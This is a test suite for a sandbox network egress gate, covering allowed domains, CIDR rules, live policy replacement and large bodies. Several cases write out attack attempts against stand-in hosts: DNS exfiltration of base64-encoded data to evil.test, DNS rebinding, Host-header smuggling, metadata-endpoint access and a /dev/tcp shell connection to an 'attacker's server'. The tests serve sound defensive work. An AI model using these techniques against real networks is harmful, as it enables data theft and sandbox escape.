/** Domain rules in real namespaces: attacks C3 to C6 and C9 as far as names are concerned. */
import { afterAll, beforeAll, describe, expect, it } from "bun:test";
import { INTERNET, leftovers } from "@sandlot/network/lab";
import { type EgressLab, startEgressLab } from "./fixtures/egress-lab";

const TAG = "eg01";
const ALL = "0.0.0.0/0";
/** Routed to the lab as well; stands for an attacker's server. */
const ELSEWHERE = "100.128.0.9";
const at = (name: string, port: number, address: string = INTERNET) => ["--resolve", `${name}:${port}:${address}`];

let lab: EgressLab;
beforeAll(async () => {
  lab = await startEgressLab({ tag: TAG, number: 84, slotCidr: "10.213.84.0/24" });
}, 60_000);
afterAll(async () => {
  await lab?.[Symbol.asyncDispose]();
  expect(await leftovers(TAG)).toEqual([]);
}, 60_000);

const https = async (name: string, address = INTERNET) =>
  await lab.curl(...at(name, 443, address), `https://${name}/x`);
const http = async (name: string, ...more: string[]) =>
  await lab.curl(...at(name, 8080), ...more, `http://${name}:8080/x`);

/** What a shell in the guest's namespace prints. */
const inGuest = (script: string): Promise<string> => {
  const nsenter = ["nsenter", `--net=/run/netns/${lab.guest.netns}`];
  return new Response(
    Bun.spawn(["timeout", "20", ...nsenter, "bash", "-c", script], { stderr: "ignore" }).stdout,
  ).text();
};

describe("allowed domains", () => {
  it("pass by TLS and HTTP, the rest is reset", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    expect((await https("api.test")).out).toContain('"via":"tls"');
    expect((await http("api.test")).out).toContain('"via":"http"');
    expect(await https("evil.test")).toEqual({ code: 35, out: "" });
    expect((await http("evil.test")).code).toBe(56);
    expect((await lab.curl("-k", `https://${INTERNET}/x`)).code).toBe(35); // no name at all
  });

  it("pass with HTTP/2 inside", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    const { out } = await lab.curl(...at("api.test", 8443), "--http2", "https://api.test:8443/two");
    expect(out).toBe("h2.0 /two");
    expect((await lab.curl(...at("evil.test", 8443), "-k", "--http2", "https://evil.test:8443/")).code).toBe(35);
  });

  it("match whatever the case, with the root's dot, and not by look-alikes (C5)", async () => {
    await lab.apply({ allowedDomains: ["*.api.test", "api.test"], deniedCidrs: [ALL] });
    expect((await http("API.Test")).out).toContain('"via":"http"');
    expect((await http("api.test", "-H", "Host: api.test.")).out).toContain('"via":"http"');
    for (const host of ["api.test.evil", "xapi.test", "api.test@evil.test", "api.test, evil.test"])
      expect([host, (await http("api.test", "-H", `Host: ${host}`)).code]).toEqual([host, 56]);
  });

  it("are dialled where we find them, not where the guest says they are", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    // Nothing listens on 443 of that address but the lab's own servers; the log tells where it went.
    expect((await https("api.test", ELSEWHERE)).out).toContain('"via":"tls"');
    const [flow] = lab.egress.list(lab.guest.slot, 1).flows;
    expect(flow).toMatchObject({ host: "api.test", address: ELSEWHERE, verdict: "allowed", reason: "allowed_domain" });
  });

  it("that answer with an inner address are refused (C3)", async () => {
    await lab.apply({ allowedDomains: ["*"], deniedCidrs: [ALL] });
    expect((await https("inside.test")).code).toBe(35);
    expect(lab.egress.list(lab.guest.slot, 1).flows[0]).toMatchObject({ verdict: "denied", reason: "internal_answer" });
  });

  it("that turn inside between two looks never lead there (C3)", async () => {
    await lab.apply({ allowedDomains: ["*"], deniedCidrs: [ALL] });
    const outcomes = [];
    for (let tries = 0; tries < 4; tries += 1) {
      outcomes.push((await lab.curl(...at("rebind.test", 8080), "http://rebind.test:8080/x")).code);
    }
    expect(outcomes.toSorted()).toEqual([0, 0, 56, 56]);
    const { heard } = await lab.lab.heard();
    expect(heard).toEqual([]);
  });

  it("cannot be used as a front for other hosts on one connection (C4)", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    await lab.heard();
    const first = ["-H", "Host: api.test", "http://api.test:8080/one"];
    const second = ["--next", "-sS", "-H", "Host: evil.test", "http://api.test:8080/two"];
    const { out } = await lab.curl(...at("api.test", 8080), ...first, ...second);
    expect(out).toContain("another host");
    expect((await lab.heard()).map(({ url }) => url)).toEqual(["/one"]);
  });

  it("open no other way out: UDP, other resolvers, TLS to resolvers (C4)", async () => {
    await lab.apply({ allowedDomains: ["*"], deniedCidrs: [ALL] });
    const outcomes = await lab.guest.dial([
      { udp: INTERNET, port: 9, text: "quic" },
      { dns: INTERNET, name: "api.test" },
      { tcp: INTERNET, port: 853 },
      { tcp: INTERNET, port: 25 },
    ]);
    expect(outcomes.slice(1)).toEqual([
      "silence",
      expect.stringMatching(/REFUSED|RESET|UNREACH/),
      expect.stringMatching(/REFUSED|RESET|UNREACH/),
    ]);
    expect((await lab.lab.heard()).heard).toEqual([]);
  });

  it("are the only names answered when nothing else is reachable (C4)", async () => {
    const ask = (name: string) => ({ dns: "169.254.0.22", name });
    await lab.apply({ allowedDomains: ["api.test", "*.ok.test"], deniedCidrs: [ALL] });
    const outcomes = await lab.guest.dial([ask("api.test"), ask("x.ok.test"), ask("c2VjcmV0.evil.test")]);
    expect(outcomes).toEqual([`NOERROR 1 ${INTERNET}`, `NOERROR 1 ${INTERNET}`, "REFUSED 0"]);
    await lab.apply({ allowedDomains: ["api.test"], allowedCidrs: [`${INTERNET}/32`], deniedCidrs: [ALL] });
    expect(await lab.guest.dial([ask("evil.test")])).toEqual([`NOERROR 1 ${INTERNET}`]);
    await lab.apply({ deniedCidrs: [ALL] });
    expect(await lab.guest.dial([ask("api.test")])).toEqual(["silence"]);
  });
});

describe("addresses beside domains", () => {
  it("an allowed CIDR wins over a denied one, whatever name is shown", async () => {
    await lab.apply({ allowedDomains: ["other.test"], allowedCidrs: [`${INTERNET}/32`], deniedCidrs: [ALL] });
    expect((await http("evil.test")).out).toContain('"via":"http"');
    expect((await lab.curl(...at("evil.test", 8080, ELSEWHERE), "http://evil.test:8080/x")).code).toBe(56);
  });

  it("server-speaks-first protocols pass by address (and are not held up where the address decides)", async () => {
    await lab.apply({ allowedDomains: ["other.test"], allowedCidrs: [`${INTERNET}/32`], deniedCidrs: [ALL] });
    expect(await lab.guest.dial([{ tcp: INTERNET, port: 80 }])).toEqual(["open"]);
    expect(await inGuest(`exec 3<>/dev/tcp/${ELSEWHERE}/80; cat <&3 2>&1`)).toContain("reset by peer");
    await lab.apply({ allowedDomains: ["other.test"], deniedCidrs: ["9.9.9.9/32"] });
    expect(await lab.guest.dial([{ tcp: ELSEWHERE, port: 80 }])).toEqual(["open"]);
  });

  it("a client that is slow to say its first word is waited for where only a name can let it through", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    const head = "GET /slow HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n";
    const slow = `exec 3<>/dev/tcp/${INTERNET}/8080; sleep 1; printf '${head}' >&3; cat <&3`;
    expect(await inGuest(slow)).toContain('"via":"http"');
  });

  it("what nobody may reach stays closed, `*` or not (C1)", async () => {
    await lab.apply({ allowedDomains: ["*"], allowedCidrs: [ALL], deniedCidrs: [ALL] });
    const outcomes = await lab.guest.dial(
      ["169.254.169.254", "10.99.0.5", "192.168.77.5"].map((tcp) => ({ tcp, port: 80 })),
    );
    expect(outcomes).toEqual(Array.from({ length: 3 }, () => expect.stringMatching(/REFUSED|RESET|UNREACH/)));
    expect((await lab.curl("-H", "Host: api.test", "http://169.254.169.254:80/latest")).code).not.toBe(0);
  });

  it("the gate itself cannot be spoken to", async () => {
    for (const policy of [{}, { allowedDomains: ["*"], deniedCidrs: [ALL] }]) {
      await lab.apply(policy);
      expect((await lab.curl("-m", "1", "-H", "Host: api.test", "http://169.254.0.22:15001/")).code).not.toBe(0);
    }
  });
});

describe("live replacement (C6)", () => {
  it("holds for the next connection, and is quick", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    expect((await https("api.test")).code).toBe(0);
    const sinceMs = performance.now();
    await lab.apply({ allowedDomains: ["other.test"], deniedCidrs: [ALL] });
    const tookMs = performance.now() - sinceMs;
    expect((await https("api.test")).code).toBe(35);
    expect(tookMs).toBeLessThan(3_000); // bench/ says how quick
    await lab.apply({});
    expect(lab.egress.list(lab.guest.slot, 1).isProxied).toBe(false);
    expect((await https("api.test")).out).toContain('"via":"tls"');
    await lab.apply({ deniedCidrs: [ALL] });
    expect((await https("api.test")).code).not.toBe(0);
  });

  it("of addresses is as quick", async () => {
    const tookMs: number[] = [];
    for (let last = 1; last <= 7; last += 1) {
      const sinceMs = performance.now();
      await lab.apply({ allowedCidrs: [`198.51.100.${last}/32`], deniedCidrs: [ALL] });
      tookMs.push(performance.now() - sinceMs);
    }
    expect(tookMs.toSorted((a, b) => a - b)[3]).toBeLessThan(600);
    await lab.apply({});
  });

  it("leaves open connections alone", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    const flows = () => lab.egress.list(lab.guest.slot, 1_000).flows;
    const before = flows().length;
    const slow = lab.curl(
      ...at("api.test", 8080),
      "-H",
      "Expect:",
      "--limit-rate",
      "4k",
      "-d",
      "x".repeat(8_000),
      "http://api.test:8080/x",
    );
    for (let tries = 0; tries < 500 && (flows().length === before || flows()[0]?.verdict !== "allowed"); tries += 1)
      await Bun.sleep(10);
    await lab.apply({ deniedCidrs: [ALL] });
    expect((await slow).code).toBe(0);
  });
});

describe("big bodies", () => {
  it("arrive whole both ways", async () => {
    await lab.apply({ allowedDomains: ["api.test"], deniedCidrs: [ALL] });
    const { out } = await lab.curl(...at("api.test", 443), "-d", "y".repeat(100_000), "https://api.test/x");
    expect(JSON.parse(out).body).toBe("y".repeat(100_000));
    const [flow] = lab.egress.list(lab.guest.slot, 1).flows;
    expect(flow?.sentBytes).toBeGreaterThan(100_000);
    expect(flow?.receivedBytes).toBeGreaterThan(100_000);
    for (let waits = 0; waits < 500 && flow?.endedAtMs === undefined; waits += 1) await Bun.sleep(20);
    expect(flow?.endedAtMs).toBeDefined();
  });
});
